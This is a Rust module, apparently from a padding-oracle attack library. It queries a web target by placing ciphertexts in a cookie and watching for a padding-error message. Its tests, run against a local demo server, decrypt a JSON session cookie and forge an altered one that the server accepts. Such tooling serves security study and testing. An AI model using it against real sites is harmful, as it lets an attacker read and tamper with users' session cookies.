// A padding oracle over HTTP.
//
// The target keeps an encrypted value in a cookie and answers with a
// recognisable error message when the padding of that value is broken. We
// put each query in the cookie and look for the message in the response.
pub mod server;

use reqwest::header::COOKIE;
use tokio::runtime::Runtime;

use crate::{Oracle, OracleFailure};

pub const DEFAULT_COOKIE_NAME: &str = "vals";
pub const DEFAULT_INVALID_MARKER: &str = "Invalid padding bytes.";

pub struct HttpOracle {
    client: reqwest::Client,
    runtime: Runtime,
    url: String,
    cookie_name: String,
    invalid_marker: String,
}

impl HttpOracle {
    /// Query `url`, sending ciphertexts in the `cookie_name` cookie and
    /// treating any response body containing `invalid_marker` as bad
    /// padding.
    ///
    /// The oracle drives its own single-threaded runtime, so it must not be
    /// used from inside another tokio runtime.
    pub fn new(
        url: impl Into<String>,
        cookie_name: impl Into<String>,
        invalid_marker: impl Into<String>,
    ) -> std::io::Result<Self> {
        let runtime = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()?;
        Ok(Self {
            client: reqwest::Client::new(),
            runtime,
            url: url.into(),
            cookie_name: cookie_name.into(),
            invalid_marker: invalid_marker.into(),
        })
    }

    async fn fetch(&self, ciphertext_hex: &str) -> Result<String, reqwest::Error> {
        self.client
            .get(&self.url)
            .header(COOKIE, format!("{}={}", self.cookie_name, ciphertext_hex))
            .send()
            .await?
            .error_for_status()?
            .text()
            .await
    }
}

impl Oracle for HttpOracle {
    fn query(&self, ciphertext_hex: &str) -> Result<bool, OracleFailure> {
        let body = self.runtime.block_on(self.fetch(ciphertext_hex))?;
        Ok(!body.contains(&self.invalid_marker))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    use crate::{attack::test_support::seeded_oracle, Alphabet, PaddingOracle};

    fn spawn_demo_server(oracle: crate::CbcPaddingOracle) -> (Runtime, String) {
        let server_runtime = tokio::runtime::Runtime::new().unwrap();
        let handler = server::PaddingOracleRequestHandler::new(oracle);
        let addr = server_runtime
            .block_on(server::spawn_server("127.0.0.1:0", &handler))
            .unwrap();
        (server_runtime, format!("{addr}/convert"))
    }

    #[test]
    fn http_oracle_reports_padding_validity() {
        let local = seeded_oracle(61);
        let ciphertext = local.encrypt(b"{\"a\": 1}");
        let mut broken = hex::decode(&ciphertext).unwrap();
        broken[15] ^= 0x01;
        let (_server, url) = spawn_demo_server(local);
        let oracle = HttpOracle::new(url, DEFAULT_COOKIE_NAME, DEFAULT_INVALID_MARKER).unwrap();

        assert!(oracle.query(&ciphertext).unwrap());
        assert!(!oracle.query(&hex::encode(broken)).unwrap());
    }

    #[test]
    fn http_errors_are_oracle_failures() {
        let local = seeded_oracle(62);
        let (_server, url) = spawn_demo_server(local);
        let oracle = HttpOracle::new(url, "wrong_cookie", DEFAULT_INVALID_MARKER).unwrap();

        let valid = oracle.query("00");

        assert!(valid.is_err());
    }

    #[test]
    fn decrypt_and_forge_json_cookie_over_http() {
        let local = seeded_oracle(63);
        let plaintext = br#"{"username": "guest", "role": "user", "id": 4}"#;
        let ciphertext = local.encrypt(plaintext);
        let (_server, url) = spawn_demo_server(local.clone());
        let check = HttpOracle::new(&url, DEFAULT_COOKIE_NAME, DEFAULT_INVALID_MARKER).unwrap();
        let attack = PaddingOracle::new(
            HttpOracle::new(&url, DEFAULT_COOKIE_NAME, DEFAULT_INVALID_MARKER).unwrap(),
        );

        let (decrypted, padding_length) = attack.decrypt(&ciphertext, &Alphabet::json()).unwrap();
        let mut modified = decrypted.clone();
        modified[24..28].copy_from_slice(b"XXXX");
        let forged = attack
            .craft(&ciphertext, &decrypted, &modified, &Alphabet::json())
            .unwrap();

        assert_eq!(decrypted, plaintext);
        assert_eq!(padding_length, 16 - plaintext.len() % 16);
        assert!(check.query(&forged).unwrap());
        assert_eq!(local.decrypt(&forged).unwrap(), modified);
    }
}
